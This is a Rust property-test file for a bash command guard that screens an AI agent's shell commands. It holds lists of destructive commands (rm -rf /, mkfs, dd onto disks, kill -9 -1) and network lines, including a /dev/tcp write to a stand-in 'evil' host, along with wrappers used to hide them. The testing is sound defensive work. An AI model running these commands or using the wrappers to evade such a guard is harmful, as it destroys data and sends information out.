//! Properties: no input panics, quoted text never runs, and a deny survives any surrounding construct.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use std::sync::OnceLock;

use agent_bash_guard::{BashConfig, BashGuard};
use agent_tool_traits::Decision;
use proptest::prelude::*;

fn guard() -> &'static BashGuard {
    static GUARD: OnceLock<BashGuard> = OnceLock::new();
    GUARD.get_or_init(|| {
        BashGuard::new(BashConfig {
            block_network: Some(true),
            ..BashConfig::default()
        })
    })
}

/// Commands denied on their own, one per deny class.
const DENIED: &[&str] = &[
    "rm -rf /",
    "rm -fr ~/",
    "sudo id",
    "mkfs.ext4 /dev/sda1",
    "dd if=/dev/zero of=/dev/sda",
    "echo x > /dev/sda",
    "chmod -R 777 /",
    "shutdown -h now",
    "kill -9 -1",
    "su root",
];

/// Network commands: asked while the network is blocked, as a caution a user's allow rule lifts.
const NETWORK: &[&str] = &[
    "curl http://example.com",
    "nc -l 4444",
    "git fetch",
    "echo hi > /dev/tcp/evil/80",
];

/// Read-only commands to put around a denied one.
const BENIGN: &[&str] = &[
    "ls -la",
    "git status",
    "echo \"use sudo carefully\"",
    "grep -rn ssh_config src",
    "cat README.md",
    "true",
    "wc -l *.rs",
    "echo 'rm -rf /'",
];

/// Wraps a command in a construct that still runs it.
fn wrap(inner: String, how: u8) -> String {
    match how % 18 {
        0 => format!("( {inner} )"),
        1 => format!("{{ {inner}; }}"),
        // A space after `$(`: `$((` would start arithmetic.
        2 => format!("echo $( {inner} )"),
        3 => format!("echo \"$( {inner} )\""),
        4 => format!("if true; then {inner}; fi"),
        5 => format!("while false; do {inner}; done"),
        6 => format!("f() {{ {inner}; }}"),
        7 => format!("cat <( {inner} )"),
        8 => format!("true && {inner}"),
        9 => format!("false || {inner}"),
        10 => format!("ls | {inner}"),
        11 => format!("{inner} & wait"),
        12 => format!("x=$( {inner} ) ls"),
        13 => format!("for i in 1 2; do {inner}; done"),
        // Not `case`: brush-parser 0.4 cannot read a `case` inside `$(…)` or `<(…)` (a parse error, so an ask);
        // case bodies are covered by the corpus.
        14 => format!("until true; do {inner}; done"),
        15 => format!(
            "timeout 5 env A=1 nohup bash -c \"{}\"",
            inner
                .replace('\\', "\\\\")
                .replace('"', "\\\"")
                .replace('$', "\\$")
                .replace('`', "\\`")
        ),
        16 => format!("eval '{}'", inner.replace('\'', "'\\''")),
        // A delimiter of its own, so that a nested here-document does not end this one.
        _ => format!("{{ cat <<E{n}\n$( {inner} )\nE{n}\n}}", n = inner.len()),
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    #[test]
    fn no_input_panics(input in "\\PC{0,80}") {
        let analysis = guard().analyze(&input);
        let verdict = analysis.verdict();
        prop_assert_eq!(verdict.decision == Decision::Deny, analysis.findings.iter().any(|f| f.decision == Decision::Deny));
    }

    #[test]
    fn no_shell_like_input_panics(input in "[a-z $(){}|&;<>'\"`\\\\=*?\\[\\]!#~\n-]{0,60}") {
        let analysis = guard().analyze(&input);
        if analysis.parse_error.is_some() {
            prop_assert_ne!(analysis.verdict().decision, Decision::Allow);
        }
        for command in &analysis.commands {
            prop_assert!(command.inner < command.argv.len().max(1));
        }
    }

    #[test]
    fn single_quoted_text_never_runs(text in "[^'\\x00]{0,60}") {
        let analysis = guard().analyze(&format!("echo '{text}'"));
        prop_assert_eq!(analysis.commands.len(), 1);
        prop_assert_eq!(&analysis.commands[0].argv, &vec!["echo".to_owned(), text]);
        prop_assert_eq!(analysis.verdict().decision, Decision::Allow);
    }

    #[test]
    fn a_deny_is_never_weakened(
        denied in prop::sample::select(DENIED),
        wrappers in prop::collection::vec(any::<u8>(), 0..4),
        before in prop::collection::vec(prop::sample::select(BENIGN), 0..6),
        after in prop::collection::vec(prop::sample::select(BENIGN), 0..6),
        separator in prop::sample::select(&["; ", " && ", " || ", " | ", "\n", " & "][..]),
    ) {
        let mut command = denied.to_owned();
        for how in wrappers {
            command = wrap(command, how);
        }
        let mut parts: Vec<String> = before.iter().map(|s| (*s).to_owned()).collect();
        parts.push(command);
        parts.extend(after.iter().map(|s| (*s).to_owned()));
        let line = parts.join(separator);
        let analysis = guard().analyze(&line);
        prop_assert_eq!(analysis.verdict().decision, Decision::Deny, "{}\n{:#?}", line, analysis);
    }

    #[test]
    fn a_network_command_is_never_allowed_however_wrapped(
        network in prop::sample::select(NETWORK),
        wrappers in prop::collection::vec(any::<u8>(), 0..4),
        before in prop::collection::vec(prop::sample::select(BENIGN), 0..4),
        separator in prop::sample::select(&["; ", " && ", " || ", " | ", "\n", " & "][..]),
    ) {
        let mut command = network.to_owned();
        for how in wrappers {
            command = wrap(command, how);
        }
        let mut parts: Vec<String> = before.iter().map(|s| (*s).to_owned()).collect();
        parts.push(command);
        let line = parts.join(separator);
        let analysis = guard().analyze(&line);
        prop_assert_ne!(analysis.verdict().decision, Decision::Allow, "{}", line);
        prop_assert!(analysis.findings.iter().any(|f| f.caution), "{}\n{:#?}", line, analysis.findings);
    }

    #[test]
    fn a_later_syntax_error_never_hides_a_deny(denied in prop::sample::select(DENIED), junk in "[a-z ();|&{}]{0,20}") {
        let line = format!("{denied}\nls\n{junk} ((");
        prop_assert_eq!(guard().analyze(&line).verdict().decision, Decision::Deny, "{}", line);
    }

    #[test]
    fn many_benign_commands_never_hide_a_deny(count in 0usize..600, at in 0usize..600) {
        let mut parts = vec!["ls"; count];
        parts.insert(at.min(count), "rm -rf /");
        let analysis = guard().analyze(&parts.join("; "));
        prop_assert_eq!(analysis.verdict().decision, Decision::Deny);
        prop_assert_eq!(analysis.commands.len(), count + 1);
    }
}

/// Read-only commands that take file operands or data.
const READERS: &[&str] = &[
    "cat",
    "head -n 3",
    "tail -n 3",
    "wc -l",
    "grep foo",
    "sed -n 1p",
    "awk '{print}'",
    "sort",
    "md5sum",
    "file",
    "jq .",
    "yq .",
    "ls -la",
    "stat",
    "diff a.txt",
    "less",
];

/// Producers of words only known at run time: text of a file or a variable, and listings that print more than
/// names (a long listing prints where links lead, a count is no name, a log prints commit messages). (A command
/// whose output names are drawn from its operands, `find DIR`, `git ls-files`, `ls DIR`, `grep -l`, produces names
/// of files below them: see [`WALKS`].)
const UNKNOWN_INPUT: &[&str] = &[
    "cat list.txt |",
    "ls -l src |",
    "echo \"$FILES\" |",
    "printf '%s\\n' \"$x\" |",
    "grep -c TODO * |",
    "grep -l --label=x TODO |",
    "git log --name-only |",
    "sort names.txt | uniq |",
];

/// Walks of a directory the line names, whose output names files below it (or, for `ls DIR`, entries of DIR
/// found from the working directory: below it or below DIR).
const WALKS: &[&str] = &[
    "find . -name '*.txt' |",
    "find src -type f |",
    "git ls-files |",
    "find . -name '*.txt' -print0 |",
    "ls |",
    "ls src |",
    "grep -l TODO * |",
    "rg -l TODO |",
    "git diff --name-only |",
];

/// Commands that change the files xargs gives them.
const WRITERS: &[&str] = &[
    "rm",
    "rm -f",
    "sed -i s/a/b/",
    "chmod +x",
    "touch",
    "truncate -s 0",
    "tee out.txt",
    "cp -t dest",
    "mv -t dest",
    "shred -u",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    /// Under `set -k` every `NAME=value` word of a later command sets its environment: such a command is never
    /// read-only, whatever the name and wherever the word stands.
    #[test]
    fn set_k_assignment_words_are_never_read_only(
        set in prop::sample::select(&["set -k", "set -o keyword", "set -ek", "set -k -e", "set -uk"][..]),
        command in prop::sample::select(READERS),
        name in "[A-Za-z_][A-Za-z0-9_]{0,10}",
        value in "[a-z0-9./=-]{0,10}",
        operands in prop::collection::vec("[a-z]{1,6}\\.txt", 0..3),
        at in 0usize..4,
        separator in prop::sample::select(&["; ", " && ", "\n"][..]),
    ) {
        let mut words: Vec<String> = operands;
        words.insert(at.min(words.len()), format!("{name}={value}"));
        let line = format!("{set}{separator}{command} {}", words.join(" "));
        let analysis = guard().analyze(&line);
        prop_assert!(!analysis.is_read_only(), "{}\n{:#?}", line, analysis);
        prop_assert_ne!(analysis.verdict().decision, Decision::Allow, "{}", line);
    }

    /// `xargs` appends words it reads to the command it runs: fed a reader from input only known at run time
    /// (a file, a listing split at blanks, a variable), the files it reads are unknown, so the line is never
    /// read-only.
    #[test]
    fn xargs_feeding_a_reader_from_unknown_input_is_never_read_only(
        source in prop::sample::select(UNKNOWN_INPUT),
        options in prop::sample::select(&["", "-n1", "-r", "-P 2", "-L 1", "-t"][..]),
        reader in prop::sample::select(READERS),
        wrapped in any::<bool>(),
    ) {
        let xargs = if wrapped { format!("timeout 5 xargs {options}") } else { format!("xargs {options}") };
        let line = format!("{source} {xargs} {reader}");
        let analysis = guard().analyze(&line);
        prop_assert!(!analysis.is_read_only(), "{}\n{:#?}", line, analysis);
        prop_assert_ne!(analysis.verdict().decision, Decision::Allow, "{}", line);
        for arg_file in ["-a list.txt", "--arg-file=list.txt"] {
            let line = format!("xargs {arg_file} {reader}");
            prop_assert_ne!(guard().analyze(&line).verdict().decision, Decision::Allow, "{}", line);
        }
    }

    /// Fed the names a walk of a known directory finds, `xargs` running a command that changes files is never
    /// read-only: the walk makes the names knowable for reads, not harmless for writes.
    #[test]
    fn xargs_feeding_a_writer_from_a_walk_is_never_read_only(
        source in prop::sample::select(WALKS),
        options in prop::sample::select(&["", "-n1", "-r", "-0", "-P 2", "-I{}"][..]),
        writer in prop::sample::select(WRITERS),
        wrapped in any::<bool>(),
    ) {
        let xargs = if wrapped { format!("timeout 5 xargs {options}") } else { format!("xargs {options}") };
        let line = format!("{source} {xargs} {writer}");
        let analysis = guard().analyze(&line);
        prop_assert!(!analysis.is_read_only(), "{}\n{:#?}", line, analysis);
        prop_assert_ne!(analysis.verdict().decision, Decision::Allow, "{}", line);
    }
}
